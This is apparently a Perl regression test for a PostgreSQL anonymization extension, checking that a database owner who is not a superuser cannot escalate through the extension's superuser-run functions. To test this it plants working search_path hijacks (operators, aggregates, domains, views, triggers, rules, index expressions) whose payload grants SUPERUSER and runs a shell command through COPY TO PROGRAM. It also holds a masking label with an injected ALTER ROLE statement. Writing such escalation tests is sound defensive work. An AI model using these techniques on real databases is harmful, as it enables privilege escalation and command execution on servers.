# test/t/070_escalation.pl: a table owner who is not a superuser attacks
# every entry point that a superuser runs on its tables (issue 15, classes
# 6, 7 and the superuser-side entry points of its "Done when").
#
# The owner also owns the database, so it can set the search_path (and any
# other user setting) of every session and worker that connects to it.  It
# plants operators, aggregates, a domain whose CHECK runs its code, an
# index expression, a CHECK constraint, a trigger and a rewrite rule, all
# calling evil.pwn(), which records as whom it ran and, when it runs as a
# superuser, makes the owner a superuser and runs a shell command (COPY TO
# PROGRAM, whose mark survives a rollback).  After each entry point, the
# owner must still not be a superuser, evil.pwn() must never have run with
# superuser rights, and no mark may be left.  Positive controls: each planted object does run
# (and escalate) when the superuser touches it directly.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;

my $node = PostgreSQL::Test::Cluster->new('escalation');
$node->init(allows_streaming => 'logical');
$node->append_conf('postgresql.conf', qq{
shared_preload_libraries = 'anon'
max_worker_processes = 16
});
$node->start;

$node->safe_psql('postgres', q{
	CREATE ROLE regress_owner LOGIN;
	CREATE ROLE regress_masked LOGIN;
	CREATE DATABASE attackdb OWNER regress_owner;
});
$node->safe_psql('attackdb', q{
	CREATE EXTENSION anon;
	SECURITY LABEL FOR anon ON ROLE regress_masked IS 'MASKED';
	-- as on a database made before PostgreSQL 15
	GRANT CREATE ON SCHEMA public TO PUBLIC;
	CREATE TABLE public.ran (who text, su boolean, ctx text);
	GRANT INSERT, SELECT ON public.ran TO PUBLIC;
});

# ---- what the owner plants ----
$node->safe_psql('attackdb', q{
	SET ROLE regress_owner;
	SET evil.setup = on;
	CREATE SCHEMA evil;
	GRANT USAGE ON SCHEMA evil TO PUBLIC;
	CREATE FUNCTION evil.pwn() RETURNS boolean LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$
	DECLARE
		su boolean;
		stk text;
	BEGIN
		-- quiet while the owner sets its trap up
		IF current_setting('evil.setup', true) OPERATOR(pg_catalog.=) 'on' THEN
			RETURN true;
		END IF;
		GET DIAGNOSTICS stk = PG_CONTEXT;
		-- a preview by a superuser under SET ROLE: try to go back
		BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN others THEN NULL; END;
		SELECT rolsuper INTO su FROM pg_roles WHERE rolname = current_user;
		BEGIN
			INSERT INTO public.ran VALUES (current_user, su, stk);
		EXCEPTION WHEN others THEN NULL;
		END;
		IF su THEN
			BEGIN
				EXECUTE 'ALTER ROLE regress_owner SUPERUSER';
			EXCEPTION WHEN others THEN NULL;
			END;
			-- a shell command: its mark survives a rollback
			BEGIN
				EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L',
					'touch ' OPERATOR(pg_catalog.||) current_setting('data_directory')
					OPERATOR(pg_catalog.||) '/pwned_marker');
			EXCEPTION WHEN others THEN NULL;
			END;
		END IF;
		RETURN true;
	END $$;
	-- operators for the comparisons that generated SQL writes
	DO $$
	DECLARE
		t text[];
		s text;
	BEGIN
		FOREACH t SLICE 1 IN ARRAY ARRAY[['oid', 'oid'], ['oid', 'integer'],
			['text', 'text'], ['name', 'name'], ['name', 'text'],
			['"char"', '"char"'], ['integer', 'integer'], ['smallint', 'smallint'],
			['bigint', 'bigint'], ['boolean', 'boolean'], ['regclass', 'regclass'],
			['oid', 'regclass'], ['bytea', 'bytea']]
		LOOP
			EXECUTE format('CREATE FUNCTION evil.eq(%s, %s) RETURNS boolean LANGUAGE plpgsql '
				'SET search_path = pg_catalog AS $f$ BEGIN PERFORM evil.pwn(); '
				'RETURN $1::text OPERATOR(pg_catalog.=) $2::text; END $f$', t[1], t[2]);
			FOREACH s IN ARRAY ARRAY['evil', 'public']
			LOOP
				EXECUTE format('CREATE OPERATOR %s.= (LEFTARG = %s, RIGHTARG = %s, '
					'FUNCTION = evil.eq)', s, t[1], t[2]);
			END LOOP;
		END LOOP;
	END $$;
	CREATE FUNCTION evil.cat(text, text) RETURNS text LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN $1 OPERATOR(pg_catalog.||) $2; END $$;
	CREATE OPERATOR evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.cat);
	CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.cat);
	-- aggregates the parallel workers used unqualified
	CREATE FUNCTION evil.sumf(bigint, bigint) RETURNS bigint LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN coalesce($1, 0) + coalesce($2, 0); END $$;
	CREATE AGGREGATE evil.sum(bigint) (SFUNC = evil.sumf, STYPE = bigint);
	CREATE FUNCTION evil.minf(text, text) RETURNS text LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN coalesce($1, $2); END $$;
	CREATE AGGREGATE evil.min(text) (SFUNC = evil.minf, STYPE = text);
	CREATE FUNCTION evil.minb(bigint, bigint) RETURNS bigint LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN least($1, $2); END $$;
	CREATE AGGREGATE evil.min(bigint) (SFUNC = evil.minb, STYPE = bigint);
	-- views named like every relation of anon, and functions named like
	-- anon's argument-less ones, in its schema and in public: read or called
	-- by a name without its schema, they run the owner's code
	DO $$
	DECLARE
		r record;
		s text;
	BEGIN
		FOR r IN SELECT c.relname FROM pg_catalog.pg_class c
		         WHERE c.relnamespace OPERATOR(pg_catalog.=) 'anon'::pg_catalog.regnamespace
		           AND c.relkind OPERATOR(pg_catalog.=) ANY ('{r,v,m,p}'::pg_catalog."char"[])
		LOOP
			FOREACH s IN ARRAY ARRAY['evil', 'public']
			LOOP
				EXECUTE pg_catalog.format('CREATE VIEW %I.%I AS SELECT evil.pwn() AS pwned', s, r.relname);
			END LOOP;
		END LOOP;
		FOR r IN SELECT DISTINCT p.proname FROM pg_catalog.pg_proc p
		         WHERE p.pronamespace OPERATOR(pg_catalog.=) 'anon'::pg_catalog.regnamespace
		           AND p.pronargs OPERATOR(pg_catalog.=) 0 AND p.prokind OPERATOR(pg_catalog.=) 'f'
		LOOP
			EXECUTE pg_catalog.format('CREATE FUNCTION evil.%I() RETURNS SETOF text LANGUAGE sql '
				'AS $f$ SELECT evil.pwn()::text $f$', r.proname);
		END LOOP;
	END $$;
	-- a domain whose CHECK runs the owner's code wherever a value is cast to it
	CREATE DOMAIN evil.dtext AS text CHECK (evil.pwn());
	-- and types named like built-in ones, for casts written without a schema
	CREATE DOMAIN evil.text AS pg_catalog.text CHECK (evil.pwn());
	CREATE DOMAIN evil.int8 AS pg_catalog.int8 CHECK (evil.pwn());
	CREATE DOMAIN evil.oid AS pg_catalog.oid CHECK (evil.pwn());
	CREATE DOMAIN evil.regclass AS pg_catalog.regclass CHECK (evil.pwn());
	CREATE DOMAIN public.text AS pg_catalog.text CHECK (evil.pwn());
	CREATE FUNCTION evil.imm(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN $1; END $$;
	CREATE FUNCTION evil.trg() RETURNS trigger LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN NEW; END $$;

	-- run as the owner while a masked copy is filled, it plants a trigger
	-- on the copy for whatever the caller does to it next
	CREATE FUNCTION evil.trgd() RETURNS trigger LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.pwn(); RETURN OLD; END $$;
	CREATE FUNCTION evil.plant(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
	SET search_path = pg_catalog AS $$ BEGIN PERFORM evil.plant_v(); RETURN $1; END $$;
	CREATE FUNCTION evil.plant_v() RETURNS text LANGUAGE plpgsql
	SET search_path = pg_catalog AS $$
	BEGIN
		IF current_setting('evil.setup', true) OPERATOR(pg_catalog.=) 'on' THEN
			RETURN '';
		END IF;
		IF to_regclass('copy2.child') IS NOT NULL AND NOT EXISTS
			(SELECT FROM pg_trigger WHERE tgname OPERATOR(pg_catalog.=) 'evil_del') THEN
			BEGIN
				EXECUTE 'CREATE TRIGGER evil_del BEFORE DELETE ON copy2.child '
					'FOR EACH ROW EXECUTE FUNCTION evil.trgd()';
			EXCEPTION WHEN others THEN RAISE NOTICE 'plant: %', SQLERRM;
			END;
		END IF;
		RETURN '';
	END $$;

	-- the owner's tables, in a schema of its own
	CREATE SCHEMA src;
	GRANT USAGE ON SCHEMA src TO PUBLIC;
	CREATE OPERATOR src.= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = evil.eq);
	CREATE OPERATOR src.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.eq);
	CREATE TABLE src.people (id serial PRIMARY KEY, name text, note evil.dtext,
		city text CHECK (evil.imm(city) IS NOT NULL),
		extra text DEFAULT evil.pwn()::text,
		gen text GENERATED ALWAYS AS (evil.imm(city)) STORED);
	CREATE INDEX ON src.people (evil.imm(name));
	INSERT INTO src.people (name, note, city)
		SELECT 'RAW' || i, 'n' || i, 'Paris' FROM generate_series(1, 20) i;
	CREATE TRIGGER t BEFORE UPDATE ON src.people FOR EACH ROW EXECUTE FUNCTION evil.trg();
	CREATE RULE r AS ON UPDATE TO src.people DO ALSO SELECT evil.pwn();
	CREATE VIEW src.people_v AS SELECT id, name FROM src.people;
	SECURITY LABEL FOR anon ON COLUMN src.people.name IS 'MASKED WITH FUNCTION anon.random_string(8)';
	-- (a rule on note is refused: its domain is not in a trusted schema)
	GRANT SELECT ON src.people TO regress_masked;
	SECURITY LABEL FOR anon ON COLUMN src.people.city IS 'QUASI-IDENTIFIER';

	-- for masked replication: a rule whose text closes a dollar quote
	CREATE TABLE src.acct (id int PRIMARY KEY, secret text, amount numeric(10,2));
	INSERT INTO src.acct VALUES (1, 'RAWsecret', 1.5);
	SECURITY LABEL FOR anon ON COLUMN src.acct.secret
		IS 'MASKED WITH VALUE ''$body$; ALTER ROLE regress_owner SUPERUSER; SELECT $body$''';
	CREATE TABLE src.acct2 (id int PRIMARY KEY, note text CHECK (evil.imm(note) IS NOT NULL));
	CREATE INDEX ON src.acct2 (evil.imm(note));
	INSERT INTO src.acct2 VALUES (1, 'n');
	SECURITY LABEL FOR anon ON COLUMN src.acct2.note IS 'MASKED WITH VALUE ''y''';
	-- a sampled table and a table that references it: a masked copy
	-- deletes the rows whose referenced row was not sampled
	CREATE TABLE src.parent (id int PRIMARY KEY);
	INSERT INTO src.parent SELECT i FROM generate_series(1, 60) i;
	SECURITY LABEL FOR anon ON TABLE src.parent IS 'TABLESAMPLE BERNOULLI (50)';
	CREATE TABLE src.child (id int PRIMARY KEY, parent_id int REFERENCES src.parent, tag text);
	INSERT INTO src.child SELECT i, i, 't' FROM generate_series(1, 60) i;
	-- (copied after child: a table cannot be altered while it is filled)
	CREATE INDEX ON src.parent (evil.plant(id::text));
	CREATE TABLE src.num (id int PRIMARY KEY, v numeric);
	INSERT INTO src.num SELECT i, i FROM generate_series(1, 10) i;
	SECURITY LABEL FOR anon ON COLUMN src.num.v IS 'QUASI-IDENTIFIER';

	RESET ROLE;
});
is($node->safe_psql('attackdb', q{
	SELECT pg_catalog.count(*) FROM pg_catalog.pg_class c
	WHERE c.relnamespace OPERATOR(pg_catalog.=) 'src'::pg_catalog.regnamespace
	  AND pg_catalog.pg_get_userbyid(c.relowner) OPERATOR(pg_catalog.<>) 'regress_owner'::pg_catalog.name}),
	'0', 'the owner owns every object of its schema');
# every session and worker in this database: the owner's names first
# as the database owner, not as a superuser
$node->safe_psql('attackdb', q{
	ALTER DATABASE attackdb SET search_path = evil, public, pg_catalog;
	ALTER DATABASE attackdb SET check_function_bodies = off;
}, extra_params => ['-U', 'regress_owner']);

sub escalated
{
	return $node->safe_psql('attackdb', q{
		SELECT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'regress_owner'::name)
			OR EXISTS (SELECT FROM public.ran WHERE su)});
}

sub reset_marks
{
	unlink($node->data_dir . '/pwned_marker');
	$node->safe_psql('attackdb', q{
		ALTER ROLE regress_owner NOSUPERUSER;
		TRUNCATE public.ran;
	});
}

# run an entry point as the superuser (it may fail: only escalation counts)
sub attack
{
	my ($name, $sql) = @_;
	reset_marks();
	my ($rc, $out, $err) = $node->psql('attackdb', $sql);
	note("$name: rc=$rc $err");
	note("ran: " . $node->safe_psql('attackdb',
		q{SELECT pg_catalog.string_agg(DISTINCT pg_catalog.format('%s:%s', who, su), ' ') FROM public.ran}));
	note("as superuser: " . $node->safe_psql('attackdb',
		q{SELECT pg_catalog.string_agg(DISTINCT ctx, ' | ') FROM public.ran WHERE su}));
	is(escalated(), 'f', "$name: the owner's code never ran as superuser");
	ok(!-e $node->data_dir . '/pwned_marker', "$name: no mark left by the owner's code as superuser");
	return ($rc, $err);
}

# ---- positive controls: the planted objects run as superuser when touched ----
reset_marks();
$node->psql('attackdb', q{SELECT 1 WHERE 'a'::text = 'b'::text});
is(escalated(), 't', 'control: the owner\'s = on text runs as a superuser under the database\'s search_path');
ok(-e $node->data_dir . '/pwned_marker', 'control: and leaves its mark outside the transaction');
reset_marks();
$node->psql('attackdb', q{SELECT c.relname FROM pg_catalog.pg_class c WHERE c.relnamespace = 11 LIMIT 1});
is(escalated(), 't', 'control: the owner\'s = on (oid, integer) runs');
reset_marks();
$node->psql('attackdb', q{SELECT sum(x) FROM (VALUES (1::bigint)) v(x)});
is(escalated(), 't', 'control: the owner\'s sum(bigint) runs');
reset_marks();
$node->psql('attackdb', q{SELECT 'x'::evil.dtext});
is(escalated(), 't', 'control: the owner\'s domain CHECK runs');
reset_marks();
$node->psql('attackdb', q{UPDATE src.people SET city = city WHERE id = 1});
is(escalated(), 't', 'control: the owner\'s trigger, rule, CHECK and index expression run on a superuser\'s UPDATE');
reset_marks();
$node->psql('attackdb', q{SET search_path = src; SELECT 1 FROM pg_catalog.pg_class WHERE relnamespace = 11});
is(escalated(), 't', 'control: the owner\'s = in its own schema runs when that schema is on the path');

reset_marks();
$node->psql('attackdb', q{SELECT 'x'::text});
is(escalated(), 't', 'control: a cast to text written without a schema runs the owner\'s domain check');
reset_marks();
$node->psql('attackdb', q{SELECT * FROM masking_rules});
is(escalated(), 't', 'control: a view named like anon.masking_rules runs when named without its schema');
reset_marks();
$node->psql('attackdb', q{SELECT min(c) FROM (SELECT count(*) AS c FROM src.people GROUP BY city) s});
is(escalated(), 't', 'control: the owner\'s min(bigint) runs in the statement k_anonymity builds');

# ---- the entry points ----
attack('create_masked_copy', q{SELECT * FROM anon.create_masked_copy('src', 'copy1')});
is($node->safe_psql('attackdb', q{SELECT count(*) FROM copy1.people WHERE name LIKE 'RAW%'}),
	'0', 'create_masked_copy: the copy was made, masked');
is($node->safe_psql('attackdb', q{SELECT count(*) FROM copy1.people_v}),
	'20', 'create_masked_copy: the view was recreated');
ok($node->safe_psql('attackdb', q{SELECT count(*) FROM public.ran}) > 0,
	'create_masked_copy: the owner\'s code did run, as the owner (the probe can see it)');

# the fill of src.parent's copy plants a trigger on the copy of src.child,
# whose orphans the caller then deletes (60 parents sampled at 50%: some are
# left out with probability 1 - 2^-60)
my ($rc2, $err2) = attack('create_masked_copy (a trigger planted on the copy while it is filled)',
	q{SELECT * FROM anon.create_masked_copy('src', 'copy2')});
like($err2, qr/table "child" of the masked copy was changed while it was filled/,
	'create_masked_copy: refused, naming the copy the owner changed (so the trigger was planted)');

attack('anonymize_database_parallel',
	q{SELECT * FROM anon.anonymize_database_parallel(2)});
is($node->safe_psql('attackdb', q{SELECT count(*) FROM src.people WHERE name LIKE 'RAW%'}),
	'0', 'anonymize_database_parallel masked the table');

# fresh raw rows for the in-place entry points
sub refill
{
	$node->safe_psql('attackdb', q{
		SET ROLE regress_owner;
		ALTER TABLE src.people DISABLE TRIGGER t;
		UPDATE src.people SET name = 'RAW' || id;
		ALTER TABLE src.people ENABLE TRIGGER t;
	});
}
refill();
attack('anonymize_table', q{SELECT * FROM anon.anonymize_table('src.people')});
refill();
attack('anonymize_column', q{SELECT * FROM anon.anonymize_column('src.people', 'name')});
refill();
attack('anonymize_database', q{SELECT * FROM anon.anonymize_database()});
attack('add_noise_on_numeric_column',
	q{SELECT * FROM anon.add_noise_on_numeric_column('src.num', 'v', 0.1)});
attack('shuffle_column', q{SELECT anon.shuffle_column('src.people', 'city', 'id')});

attack('start_masked_replication (rule text in a function body)',
	q{SELECT anon.start_masked_replication('src.acct', 'shadow')});
is($node->safe_psql('attackdb', q{SELECT secret FROM shadow.acct}),
	'$body$; ALTER ROLE regress_owner SUPERUSER; SELECT $body$',
	'start_masked_replication: the rule\'s value is data, not SQL');
attack('masked replication trigger (the superuser writes the source)',
	q{INSERT INTO src.acct VALUES (2, 'RAW2', 2.25)});
attack('start_masked_replication (index expression and CHECK while filling the shadow)',
	q{SELECT anon.start_masked_replication('src.acct2', 'shadow')});

# measuring someone else's table: the statements name min(), count() and =
attack('k_anonymity', q{SELECT anon.k_anonymity('src.people', ARRAY['city'])});
attack('l_diversity', q{SELECT anon.l_diversity('src.people', 'name', ARRAY['city'])});
attack('risk', q{SELECT * FROM anon.risk('src.people')});
attack('generalize_to_k', q{SELECT * FROM anon.generalize_to_k('src.num', 2)});

attack('preview with SET ROLE',
	q{SET ROLE regress_masked; SELECT * FROM src.people});

# privacy by default masks unlabelled columns with their DEFAULT, which the
# owner wrote: evaluated for a superuser's preview, it must not run as one
attack('preview with SET ROLE, privacy by default',
	q{SET anon.privacy_by_default = on; SET ROLE regress_masked; SELECT * FROM src.people});
attack('preview with SET ROLE, a rule calling a query executor', q{
	SET ROLE regress_owner;
	SECURITY LABEL FOR anon ON COLUMN src.people.city
		IS 'MASKED WITH FUNCTION query_to_xml(''SELECT evil.pwn()'', true, true, '''')::text';
	RESET ROLE;
	SET ROLE regress_masked;
	SELECT * FROM src.people});

attack('import_rules', q{
	SELECT anon.import_rules('{"format": "anon-rules", "labels": [
		{"object": "column", "names": ["src", "people", "city"], "provider": "anon",
		 "label": "MASKED WITH VALUE ''z''"}]}'::jsonb)});

done_testing();
